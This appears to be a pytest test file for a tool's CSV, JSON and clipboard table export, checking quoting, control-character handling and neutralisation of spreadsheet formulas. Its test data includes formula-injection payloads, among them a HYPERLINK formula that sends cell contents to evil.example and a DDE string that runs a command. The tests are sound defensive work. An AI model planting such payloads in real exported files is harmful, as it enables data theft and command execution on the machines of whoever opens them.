"""Tables as text: read back by what reads such text, with nothing in it that a spreadsheet would compute."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tui.out.table import Cell, clipboard_text, csv_text, json_text

HEADER = ("host", "process", "count", "rate", "p95_ns")
ROWS: list[tuple[Cell, ...]] = [
    ("192.0.2.1", 'a "quoted", one', 3, 0.25, 1_234_567_890),
    ("2001:db8::1", None, -1, 0.0, None),
]
PRINTABLE = st.characters(min_codepoint=32, max_codepoint=126)
CELLS = st.none() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(PRINTABLE)
TABLES = st.lists(st.tuples(CELLS, CELLS, CELLS), max_size=8)
HOSTILE = st.text(st.sampled_from(" ,;|\t\n\"'=+-@a\uff1d") | st.characters(), max_size=12)
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "  =1",
    '"=1',
    "'=1",
    "\uff1dcmd()",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
]


def test_csv() -> None:
    assert csv_text(HEADER, ROWS) == (
        "host,process,count,rate,p95_ns\n"
        '192.0.2.1,"a ""quoted"", one",3,0.25,1234567890\n'
        "2001:db8::1,,-1,0.0,\n"
    )


def test_json() -> None:
    assert json_text(HEADER, ROWS) == (
        '[\n{"host": "192.0.2.1", "process": "a \\"quoted\\", one", "count": 3, "rate": 0.25, "p95_ns": 1234567890},\n'
        '{"host": "2001:db8::1", "process": null, "count": -1, "rate": 0.0, "p95_ns": null}\n]\n'
    )


def test_clipboard() -> None:
    assert clipboard_text(ROWS[1:]) == "2001:db8::1\t\t-1\t0.0\t"
    assert clipboard_text([("192.0.2.1",)]) == "192.0.2.1"
    assert clipboard_text([("a", 1), ("b", 2)], ("host", "count")) == "host\tcount\na\t1\nb\t2"


def test_no_rows() -> None:
    assert csv_text(HEADER, []) == "host,process,count,rate,p95_ns\n"
    assert json.loads(json_text(HEADER, [])) == []
    assert clipboard_text([]) == ""


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_a_text(formula: str) -> None:
    assert clipboard_text([(formula,)]) == "'" + formula
    ((cell,),) = csv.reader(io.StringIO(csv_text((), [(formula,)]).lstrip("\n")))
    assert cell == "'" + formula


@pytest.mark.parametrize("separator", [",", ";", "|"])
def test_a_formula_behind_a_separator_does_too(separator: str) -> None:
    """For a spreadsheet that splits cells there, which it does where the decimal point is a comma."""
    assert clipboard_text([(f"a{separator} =1+1{separator}b-c",)]) == f"a{separator}' =1+1{separator}b-c"


@pytest.mark.parametrize(
    "text", ["2001:db8::1", "a-b.example", "nginx: worker", "user@host", "100%", "1=1", ""]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert clipboard_text([(text, "x")]) == f"{text}\tx"


@pytest.mark.parametrize(
    "text",
    ["\t=1", "\r\n=1", "\x1b[31mred", "a\nb", "a\tb", "\x00", "\x9b31m", "\u202egnp", "\ud800", "\u2028"],
)
def test_what_does_not_print_is_told_from_what_does(text: str) -> None:
    for written in (csv_text(("h",), [(text,)])[2:-1], clipboard_text([(text,)])):
        assert written.isprintable()
        assert "\ufffd" in written
        assert not re.match(r"[\s\ufffd]*=", written) or written.startswith("\ufffd")


def test_json_keeps_texts_as_they_are() -> None:
    (row,) = json.loads(json_text(("text",), [("=1\t\x1b\u202e",)]))
    assert row == {"text": "=1\t\x1b\u202e"}
    assert json_text(("text",), [("\x1b\x9b\u202e",)]).replace("\n", "").isprintable()


def test_a_row_that_is_not_as_long_is_an_error() -> None:
    with pytest.raises(ValueError, match="zip"):
        json_text(("a",), [(1, 2)])


@given(TABLES)
def test_numbers_and_shapes_come_back(rows: list[tuple[Cell, ...]]) -> None:
    header = ("a", "b", "c")
    read = list(csv.reader(io.StringIO(csv_text(header, rows))))
    pasted = [line.split("\t") for line in clipboard_text(rows, header).split("\n")]
    assert read == pasted
    assert len(read) == len(rows) + 1
    assert [list(each.values()) for each in json.loads(json_text(header, rows))] == [
        list(row) for row in rows
    ]
    for cells, row in zip(read[1:], rows, strict=True):
        for cell, value in zip(cells, row, strict=True):
            if isinstance(value, (int, float)):
                assert type(value)(cell) == value
            elif value is None:
                assert cell == ""
            else:
                assert cell.replace("'", "") == value.replace("'", "")


@given(st.lists(st.tuples(HOSTILE, HOSTILE), min_size=1, max_size=4), st.sampled_from(",;|\t"))
def test_no_text_begins_a_formula_wherever_it_is_split(rows: list[tuple[str, str]], separator: str) -> None:
    for text in (csv_text((), rows), clipboard_text(rows)):
        for line in text.split("\n"):
            for cell in line.split(separator):
                assert not re.match(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell)
